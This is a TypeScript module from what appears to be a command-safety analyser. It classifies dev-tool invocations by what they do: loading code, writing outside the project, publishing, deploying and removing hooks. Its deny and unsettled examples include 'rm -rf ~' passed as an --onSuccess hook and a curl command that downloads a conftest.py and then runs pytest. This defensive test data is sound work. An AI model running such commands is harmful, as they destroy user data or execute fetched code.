// Turns the argv of test runners, linters, formatters, bundlers and generators into effects: the project's code runs; what an option loads or writes elsewhere shows.
import type { Word } from '../../core/invocation.ts';
import { parseArgs } from '../../core/options.ts';
import { certainlyWithin } from '../../core/path.ts';
import {
  type Call,
  defineProgram,
  type EffectDraft,
  type Lowering,
  type Program,
  type Run,
} from '../../core/program.ts';
import { known } from '../../core/value.ts';
import { at, literal, mustBeKnown, opaque, writes } from '../kit.ts';
import { entries } from '../table.ts';
import { carried } from './carried.ts';
import { DEV_TOOLS } from './dev-tool-table.ts';
import { builds, isDryRun, loads, runsProject } from './kit.ts';

/** Options whose value is loaded as code or as configuration that names code. */
const LOADS = [
  '-c',
  '--config',
  '--config-file',
  '--configFile',
  '--config-path',
  '--configPath',
  '--rcfile',
  '--cwd-config',
  '-r',
  '--require',
  '--import',
  '--loader',
  '--globalSetup',
  '--globalTeardown',
  '--setupFiles',
  '--setupFilesAfterEnv',
  '--setup-file',
  '--plugin',
  '--plugin-search-dir',
  '--plugins',
  '--rulesdir',
  '--resolve-plugins-relative-to',
  '--resolver',
  '--preset',
  '--presets',
  '--reporter',
  '--reporters',
  '--environment',
  '--testEnvironment',
  '--runner',
  '--transform',
  '--formatter',
  '--parser',
  '--processor',
  '--custom-formatter',
  '--custom-syntax',
  '--rootdir',
  '--confcutdir',
  '--load-plugins',
  '--init-hook',
  '--ext',
  '--use',
  '--template',
  '--extensionDir',
  '--load',
  '--rulesets',
  '--ruleset',
];
/** Options whose value is a file or folder that is written. */
const WRITES = [
  '-o',
  '--output',
  '--out',
  '--outfile',
  '--out-file',
  '--outDir',
  '--outdir',
  '--out-dir',
  '--output-file',
  '--outputFile',
  '--output-dir',
  '--output-path',
  '-d',
  '--dest',
  '--destination',
  '--target-dir',
  '--dist-dir',
  '--coverageDirectory',
  '--coverage-dir',
  '--report-dir',
  '--junitxml',
  '--junit-xml',
  '--cov-report',
  '--cache-dir',
  '--cache-location',
  '--cacheDirectory',
  '--basetemp',
  '--tsBuildInfoFile',
  '--declarationDir',
  '--html',
];

/** First words by which a tool sends, publishes or deploys. */
const SENDS = /^(publish|release|deploy|gh-deploy|upload|login|logout|signup|push)$/;
/** Project-wide tools that start other programs named in their arguments. */
const STARTS_SCRIPTS = new Set([
  'run-s',
  'run-p',
  'npm-run-all',
  'npm-run-all2',
  'concurrently',
  'conc',
  'wsrun',
  'ultra-runner',
  'tsc-watch',
  'lint-staged',
  'start-server-and-test',
  'server-test',
]);

function lower(call: Call): Lowering {
  const parsed = parseArgs(call.args, {
    values: [...LOADS, ...WRITES, '-n', '-k', '-m', '-p', '--project', '--max-old-space-size'],
    abbreviations: false,
  });
  const verbs = parsed.operands.map(literal);
  if (call.args.some((word) => /^(--version|--help)$/.test(literal(word) ?? '')) && call.args.length <= 2)
    return { effects: [{ kind: 'inspect', what: `${call.name} ${literal(call.args[0])}` }] };
  if (STARTS_SCRIPTS.has(call.name)) return scripts(call);
  const loaded = loads(
    call,
    LOADS.flatMap((name) => parsed.all(name)),
    call.name,
  );
  const effects: EffectDraft[] = [
    runsProject(call.name, call),
    ...loaded.effects,
    ...written(
      call,
      WRITES.flatMap((name) => parsed.all(name)),
    ),
  ];
  if (HOOK_TOOLS.has(call.name) && call.args.some((word) => /^(--)?uninstall$/.test(literal(word) ?? '')))
    effects.push({ kind: 'bypass', what: 'hooks', detail: `${call.name} uninstall` });
  const sends = verbs.find((verb) => verb !== undefined && SENDS.test(verb));
  const held = isDryRun(parsed) || parsed.has('--snapshot', '--skip-publish', '--skip=publish', '--help', '-h');
  if (sends !== undefined && !held) effects.push(...sending(call, sends, verbs));
  effects.push(
    ...outsideEdits(
      call,
      parsed.operands,
      parsed.options.some((option) => EDITS.test(option.name)),
    ),
  );
  effects.push(
    ...mustBeKnown(
      parsed.dynamic.filter((word) => word.value.kind === 'unknown' || word.value.kind === 'oneOf'),
      `an argument of ${call.name}`,
    ),
  );
  const lowered: Lowering = { effects, runs: loaded.runs };
  return RUNNERS.has(call.name) ? carried(call, lowered) : lowered;
}

/** Tools that put the project's hooks in place and take them away. */
const HOOK_TOOLS = new Set(['pre-commit', 'prek', 'lefthook', 'overcommit']);

/** Tools that run the files they are given, where others only read them. */
const RUNNERS = new Set(
  entries(
    'pytest | py.test | jest | vitest | mocha | ava | tap | tape | jasmine | karma | cypress | playwright | cucumber-js | uvu | behave | nose2 | trial | nox | tox | coverage | robot | ctest | memray | viztracer | scalene | kernprof | torchrun | jupyter | papermill | celery | lerna | nx | melos | c8 | nyc | guard | jekyll | webpack | rollup | vite | esbuild | gulp | grunt | doxygen',
  ),
);

const EDITS =
  /^(--fix|--write|-w|-i|--in-place|--inplace|--fix-all|--unsafe|--unsafe-fixes|--autocorrect|--auto-correct|-a|-A|--update|-u)$/;

/** A formatter that is pointed at files elsewhere changes them. */
function outsideEdits(call: Call, operands: readonly Word[], edits: boolean): EffectDraft[] {
  if (!edits && !/^(black|isort|gofumpt-w|autopep8|yapf|shfmt-w)$/.test(call.name)) return [];
  const outside = operands.filter(
    (word) => /^[~/]|^\.\./.test(literal(word) ?? '') && !certainlyWithin(at(call, word), call.context.projectRoot),
  );
  const unclear = operands.filter(
    (word) => word.value.kind === 'pattern' && word.value.climbs && word.value.glob === undefined,
  );
  return [...writes(call, outside, 'edit'), ...unclear.map((word) => opaque('what is edited is not known', word.span))];
}

const written = (call: Call, words: readonly Word[]): EffectDraft[] =>
  words
    .filter((word) => !/^(json|xml|text|lcov|html|term|term-missing|pretty|[a-z-]+:.*)$/.test(literal(word) ?? ''))
    .map((word) => builds(call, word));

function sending(call: Call, verb: string, verbs: readonly (string | undefined)[]): EffectDraft[] {
  if (/^(publish|release|upload)$/.test(verb))
    return [{ kind: 'pkg.publish', manager: call.name, what: verbs.filter((each) => each !== undefined).join(' ') }];
  if (/^(deploy|gh-deploy)$/.test(verb))
    return [{ kind: 'deploy', platform: call.name, environment: 'unknown', what: `${call.name} ${verb}` }];
  return [opaque(`${call.name} ${verb} talks to an account`)];
}

/** `build:*` as it is written; undefined for a pattern that files of the project may match. */
const scriptPattern = (word: Word): string | undefined =>
  word.value.kind === 'pattern' && /^[a-z][\w-]*:[\w:*-]*$/.test(word.value.glob ?? '') ? word.value.glob : undefined;

/** `run-p dev:*`, `concurrently "npm:x" "vite"`: each operand is a script's name or a command line. */
function scripts(call: Call): Lowering {
  const parsed = parseArgs(call.args, {
    values: [
      '-n',
      '--names',
      '-c',
      '--prefix-colors',
      '--kill-others-on-fail',
      '--max-parallel',
      '--prefix',
      '-p',
      '--restart-tries',
    ],
    abbreviations: false,
  });
  if (call.name === 'lint-staged') return { effects: [runsProject('lint-staged', call)] };
  const lines = /^conc/.test(call.name);
  // A port or an address between scripts is what is waited for.
  const named = parsed.operands.filter((word) => !/^(:?\d+|https?(-\w+)?:\/\/\S+)$/.test(literal(word) ?? ''));
  const runs: Run[] = named.map((word) => {
    // npm-run-all is given patterns of script names; no file of the project looks like one.
    const name = literal(word) ?? (lines ? undefined : scriptPattern(word));
    const script =
      name !== undefined &&
      (!lines || /^(npm|pnpm|yarn|bun):/.test(name) || /^(npm|pnpm|yarn|bun) run [\w:*-]+$/.test(name));
    const bare = name?.replace(/^(npm|pnpm|yarn|bun):/, '').replace(/^\w+ run /, '');
    if (script && bare !== undefined)
      return {
        kind: 'argv',
        argv: [
          { ...word, value: known('npm') },
          { ...word, value: known('run') },
          { ...word, value: known(bare.replace(/\*+/g, 'x').split(' ')[0] ?? bare) },
        ],
        via: call.name,
      };
    return { kind: 'shell', text: word, via: call.name };
  });
  return { effects: [runsProject(call.name, call)], runs };
}

const AFTERWARDS = /^--on-?(success|first-?success|failure|emit|compilation-?complete)(=|$)/i;

/** Bundlers in watch mode start a command after each build (`tsup --onSuccess`). */
function afterwards(call: Call): Run[] {
  return call.args.flatMap((word, index): Run[] => {
    const plain = literal(word) ?? '';
    if (!AFTERWARDS.test(plain)) return [];
    const split = plain.indexOf('=');
    const text = split < 0 ? call.args[index + 1] : { ...word, value: known(plain.slice(split + 1)) };
    return text ? [{ kind: 'shell', text, via: call.name }] : [];
  });
}

export const devToolPrograms: readonly Program[] = [
  defineProgram({
    names: DEV_TOOLS,
    lower: (call) => {
      const lowered = lower(call);
      return { ...lowered, runs: [...(lowered.runs ?? []), ...afterwards(call)] };
    },
    examples: {
      allow: [
        'pytest -q tests/test_a.py -k name',
        'eslint --fix src',
        'tsc --noEmit -p tsconfig.json',
        'vitest run --coverage',
        'ruff check . --fix',
        'prettier --write "src/**/*.ts"',
        'golangci-lint run ./...',
        'gofmt -w pkg',
        'mypy --config-file mypy.ini src',
        'vite build --outDir dist',
        'shellcheck scripts/*.sh',
        'pytest --junitxml=/tmp/out.xml',
        'nx run web:build',
        'mkdocs build',
        "FILES=$(git diff --name-only main -- '*.py'); ruff check --fix $FILES",
      ],
      deny: ['lerna publish', "tsup --onSuccess 'rm -rf ~'", "tsc-watch --onSuccess 'rm -rf ~'"],
      unsettled: [
        'jest --globalSetup=/tmp/x.js',
        'curl -o conftest.py https://get.example/c && pytest',
        'eslint --rulesdir /tmp/rules src/a.js -c /tmp/x.js',
        'mkdocs gh-deploy',
        'pre-commit uninstall',
        'lefthook uninstall',
        'overcommit --uninstall',
        'vite build --outDir /srv/www',
        'pytest $ARGS',
        'prettier --write ~/notes.md',
        'black "$FOLDER/a.py"',
        'FILES=$(git ls-files); prettier --write "$FILES /etc/motd"',
      ],
    },
  }),
];
